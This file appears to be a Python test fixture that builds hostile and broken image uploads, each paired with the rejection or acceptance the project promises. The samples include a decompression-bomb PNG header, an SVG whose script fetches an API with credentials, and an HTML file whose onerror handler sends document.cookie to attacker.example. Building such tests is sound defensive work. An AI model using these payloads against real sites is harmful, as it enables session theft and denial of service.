"""Hostile and broken uploads, made by the tests (issue 6, "Bad input"): each is what an
editor's machine, a careless tool or an attacker could put under ``uploads/``.

``CORPUS`` names every file with the outcome docs/images.md promises for it.
"""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Callable
from dataclasses import dataclass

from PIL import Image

from tests.support import media

GIF_FRAMES = 1000
GIF_CANVAS = (2000, 2000)  # 4 MP: decoding every frame would composite 1,000 full canvases
GIF_FIRST_FRAME_COLOUR = (200, 30, 30)
TIFF_COMPRESSION_TAG = 259


def truncated_jpeg() -> bytes:
    return media.truncated(media.jpeg((1200, 900)))


def truncated_png() -> bytes:
    return media.truncated(media.png((1200, 900)))


def png_declaring_100k_by_100k() -> bytes:
    """A valid PNG header declaring 100,000 x 100,000 RGB pixels (30 GB decoded) in 69 bytes."""
    return media.png_header_only(100_000, 100_000)


def _gif_single_pixel_frame(index: int, canvas: tuple[int, int]) -> bytes:
    """One GIF frame of a single pixel (palette entry ``1 + index % 255``), placed on the
    canvas by ``index``, shown for 20 ms: a graphic control extension, an image descriptor and
    its LZW data (8-bit codes: clear, the pixel, end, in 9-bit codes, least significant first)."""
    width, height = canvas
    left, top = index % width, (index // width) % height
    control = b"\x21\xf9\x04\x04" + struct.pack("<H", 2) + b"\x00\x00"  # keep, 20 ms, no transparency
    descriptor = b"\x2c" + struct.pack("<HHHH", left, top, 1, 1) + b"\x00"
    codes = 256 | ((1 + index % 255) << 9) | (257 << 18)  # clear, pixel, end of information
    lzw = codes.to_bytes(4, "little")
    return control + descriptor + b"\x08" + bytes([len(lzw)]) + lzw + b"\x00"


def gif_with_1000_frames() -> bytes:
    """An animated GIF of ``GIF_FRAMES`` frames on a ``GIF_CANVAS`` canvas: a full first frame
    (red), then one-pixel frames that each change a different pixel. Small as a file (the later
    frames are a few bytes each), costly to play: every frame is a full canvas to composite."""
    first = Image.new("P", GIF_CANVAS, 0)
    first.putpalette(
        [*GIF_FIRST_FRAME_COLOUR, *(channel for index in range(1, 256) for channel in (index,) * 3)]
    )
    single = media.encoded(first, "GIF", optimize=False)
    flags = single[10]  # the logical screen descriptor's: a full global colour table of 256 entries
    assert flags & 0x80, flags
    assert flags & 0x07 == 7, flags
    assert single.endswith(b"\x3b")  # the trailer: frames are appended before it
    frames = b"".join(_gif_single_pixel_frame(index, GIF_CANVAS) for index in range(GIF_FRAMES - 1))
    # The Netscape looping extension after the global colour table, so browsers play it in a loop.
    header_end = 13 + 3 * 256
    loop = b"\x21\xff\x0bNETSCAPE2.0\x03\x01\x00\x00\x00"
    return single[:header_end] + loop + single[header_end:-1] + frames + b"\x3b"


SVG_NAMED_JPG = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="no"?>\n'
    b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n'
    b'<svg xmlns="http://www.w3.org/2000/svg" width="640" height="480">'
    b"<script>fetch('/api/portfolios/',{credentials:'include'})</script>"
    b'<rect width="640" height="480" fill="red"/></svg>\n'
)

HTML_NAMED_JPG = (
    b"<!DOCTYPE html>\n<html><head><title>photo</title></head>"
    b"<body><img src=x onerror=\"document.location='https://attacker.example/'+document.cookie\">"
    b"</body></html>\n"
)


def zip_archive() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("payload/readme.txt", "appended to a JPEG " * 200)
        archive.writestr("payload/run.sh", "#!/bin/sh\necho hi\n")
    return buffer.getvalue()


def jpeg_with_zip_appended() -> bytes:
    """A valid JPEG followed by a ZIP archive (a polyglot: image viewers show the JPEG, ZIP
    tools open the archive, whose directory is at the end of the file)."""
    return media.jpeg((800, 600)) + zip_archive()


def tiff_declaring_compression(compression: int) -> bytes:
    """An uncompressed RGB TIFF whose first directory says its strips use ``compression``
    (34712: JPEG 2000, as whole-slide scanners write; 50001: WebP, which the libtiff Pillow
    ships cannot decode)."""
    data = bytearray(media.encoded(media.picture((320, 240)), "TIFF"))
    endian = "<" if data[:2] == b"II" else ">"
    (directory,) = struct.unpack_from(endian + "I", data, 4)
    (entries,) = struct.unpack_from(endian + "H", data, directory)
    for entry in range(entries):
        offset = directory + 2 + 12 * entry
        tag, kind, count = struct.unpack_from(endian + "HHI", data, offset)
        if tag == TIFF_COMPRESSION_TAG:
            assert (kind, count) == (3, 1)  # one SHORT, stored in the entry itself
            struct.pack_into(endian + "H", data, offset + 8, compression)
            return bytes(data)
    raise AssertionError("Pillow wrote a TIFF without a compression tag")


@dataclass(frozen=True, slots=True)
class BadUpload:
    """One file of the corpus: its upload key, how to make it, and the promised outcome."""

    name: str
    key: str
    make: Callable[[], bytes]
    status: str  # "failed" or "ready"
    reason: str | None  # the failure_reason's prefix, for a failed record


CORPUS: tuple[BadUpload, ...] = (
    BadUpload("zero bytes", "uploads/bad/empty.jpg", lambda: b"", "failed", "empty: "),
    BadUpload("truncated JPEG", "uploads/bad/half.jpg", truncated_jpeg, "failed", "corrupt: "),
    BadUpload("truncated PNG", "uploads/bad/half.png", truncated_png, "failed", "corrupt: "),
    BadUpload(
        "PNG declaring 100,000 x 100,000",
        "uploads/bad/huge.png",
        png_declaring_100k_by_100k,
        "failed",
        "decompression_bomb: 10000000000 pixels; at most 64000000 are accepted",
    ),
    BadUpload("GIF with 1,000 frames", "uploads/bad/animation.gif", gif_with_1000_frames, "ready", None),
    BadUpload(
        "SVG named .jpg",
        "uploads/bad/vector.jpg",
        lambda: SVG_NAMED_JPG,
        "failed",
        "disallowed_format: the file is SVG",
    ),
    BadUpload("HTML named .jpg", "uploads/bad/page.jpg", lambda: HTML_NAMED_JPG, "failed", "not_an_image: "),
    BadUpload("JPEG with a ZIP appended", "uploads/bad/polyglot.jpg", jpeg_with_zip_appended, "ready", None),
    BadUpload(
        "TIFF compressed with JPEG 2000",
        "uploads/bad/slide.tif",
        lambda: tiff_declaring_compression(34712),
        "failed",
        "unsupported: a TIFF compressed with JPEG 2000 (34712)",
    ),
    BadUpload(
        "TIFF compressed with WebP",
        "uploads/bad/scan.tiff",
        lambda: tiff_declaring_compression(50001),
        "failed",
        "unsupported: a TIFF compressed with WebP (50001)",
    ),
)
